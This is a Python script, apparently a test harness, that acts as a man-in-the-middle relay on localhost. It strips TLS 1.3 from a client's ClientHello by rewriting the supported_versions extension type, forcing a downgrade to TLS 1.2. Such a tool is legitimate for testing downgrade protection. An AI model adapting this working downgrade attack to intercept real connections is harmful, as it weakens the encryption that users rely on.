"""An attacker on the way of a TLS connection, who removes TLS 1.3 from what a client offers.

    downgrade.py PORT

Relays connections to PORT of this host. In the first bytes of the client, the ClientHello, the type of the
extension supported_versions (RFC 8446 section 4.2.1) is replaced by an unknown one, so that the server takes
the client for one of TLS 1.2. The first line on stdout is the port of the relay.
"""

import contextlib
import selectors
import socket
import struct
import sys

EXTENSION, UNKNOWN = struct.pack("!H", 43), struct.pack("!H", 0xFAFA)


def downgraded(hello):
    """A ClientHello without supported_versions: extension 43 whose list is as long as it states."""
    for at in range(len(hello) - 5):
        length, listed = struct.unpack_from("!HB", hello, at + 2)
        if hello[at : at + 2] == EXTENSION and length == listed + 1 and hello[at + 5 : at + 6] == b"\3":
            return hello[:at] + UNKNOWN + hello[at + 2 :]
    raise SystemExit("no extension supported_versions in the ClientHello")


def main():
    listener = socket.create_server(("127.0.0.1", 0))
    print(listener.getsockname()[1], flush=True)
    while True:
        client, _ = listener.accept()
        server = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
        server.sendall(downgraded(client.recv(1 << 16)))
        selector = selectors.DefaultSelector()
        selector.register(client, selectors.EVENT_READ, server)
        selector.register(server, selectors.EVENT_READ, client)
        while selector.get_map():
            for key, _ in selector.select():
                try:
                    data = key.fileobj.recv(1 << 16)
                    key.data.sendall(data)
                except OSError:
                    data = b""
                if not data:
                    selector.unregister(key.fileobj)
                    # The end of one direction is passed on; the other one may still have an alert to send.
                    with contextlib.suppress(OSError):
                        key.data.shutdown(socket.SHUT_WR)
        client.close()
        server.close()


if __name__ == "__main__":
    main()
